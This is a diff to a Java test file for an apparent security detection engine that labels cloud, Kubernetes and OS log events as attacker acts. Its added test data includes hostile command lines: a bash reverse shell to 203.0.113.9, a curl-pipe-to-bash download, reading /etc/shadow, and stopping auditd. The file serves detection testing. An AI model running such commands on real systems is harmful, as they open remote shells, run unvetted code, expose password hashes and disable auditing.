@@ -42,9 +42,42 @@ final class PlatformFactsTest {
 
     @Test
     void anEventOfAnotherKindTellsNothing() {
-        assertThat(derived("user.name", "ann", "source.ip", "10.0.0.1", "event.action", "audit-log-cleared", "message", "x")).isEmpty();
+        assertThat(derived("user.name", "ann", "source.ip", "10.0.0.1", "event.action", "logged-out", "message", "x")).isEmpty();
         assertThat(derived("winlog.channel", "Windows PowerShell", "event.provider", "PowerShell", "process.command_line", "powershell -enc AAAA", "process.name", "powershell.exe"))
                 .as("PowerShell's own events repeat the command line of their host").isEmpty();
+    }
+
+    @ParameterizedTest
+    @CsvSource({
+        "StopLogging,,,                                                        the logging of an account was stopped",
+        "GetPasswordData,,,                                                    the password of a machine in the cloud was asked for",
+        "DescribeInstanceAttribute, requestParameters.attribute, userData,     the start-up script of a machine was read",
+        "DescribeInstanceAttribute, requestParameters.attribute, instanceType,",
+        "ConsoleLogin, userIdentity.type, Root,                                the root user of an account logged in",
+        "ConsoleLogin, userIdentity.type, IAMUser,",
+        "Add member to role,,,                                                 somebody was made an administrator of the cloud",
+        "google.logging.v2.ConfigServiceV2.DeleteSink,,,                       the audit log of a cloud was switched off or led elsewhere",
+        "list, orchestrator.resource.type, secrets,                            secrets of a cluster were read",
+        "list, orchestrator.resource.type, pods,",
+        "user-created,,,                                                       an account was created",
+    })
+    void actsNeedNoWindows(String action, String field, String value, String act) {
+        Map<String, String> facts = field == null ? derived("event.action", action) : derived("event.action", action, field, value);
+        assertThat(facts).isEqualTo(act == null ? Map.of() : Map.of("@act", act));
+    }
+
+    @ParameterizedTest
+    @CsvSource(delimiter = ';', value = {
+        "sudo; bash -i >& /dev/tcp/203.0.113.9/443 0>&1;            a shell was connected to the network",
+        "sudo; /usr/bin/cat /etc/shadow;                            the file of passwords was opened",
+        "sh; curl -s http://203.0.113.9/a | bash;                   something was downloaded and run at once",
+        "sudo; /usr/bin/systemctl stop auditd;                      a protection of Linux was switched off",
+        "sudo; /usr/bin/systemctl restart nginx;",
+        "explorer.exe; explorer.exe /root,\"c:\\windows\\system32\\calc.exe\";  explorer was told to run a program",
+        "net1.exe; net1 use \\\\srv1\\c$;                         a share was used or made by command",
+    })
+    void commandsOfAnySystemTellWhatTheyAreFor(String process, String command, String act) {
+        assertThat(derived("process.name", process, "process.command_line", command).get("@command.act")).isEqualTo(act);
     }
 
     @Test
@@ -64,6 +97,11 @@ final class PlatformFactsTest {
         "group-member-added, group.name, Readers,",
         "service-installed, winlog.event_data.ImagePath, %COMSPEC% /c echo,                     a service was installed that runs a shell or lies in an odd place",
         "service-installed, winlog.event_data.ImagePath, C:\\Program Files\\a.exe,              a service was installed",
+        "user-renamed, user.changes.name, DC1,                                                  an account was renamed",
+        "script-block-logged, log.level, warning,                                               PowerShell itself found a script suspicious",
+        "script-block-logged, log.level, verbose,",
+        "share-object-checked, winlog.event_data.RelativeTargetName, Users\\a\\Login Data,       a file of stored credentials was opened",
+        "share-object-checked, winlog.event_data.RelativeTargetName, Users\\a\\notes.txt,",
         "registry-value-set, registry.path, HKLM\\System\\CurrentControlSet\\Control\\MiniNt\\, a registry key was made that stops event logging",
     })
     void actsAreToldByTheEvent(String action, String field, String value, String act) {
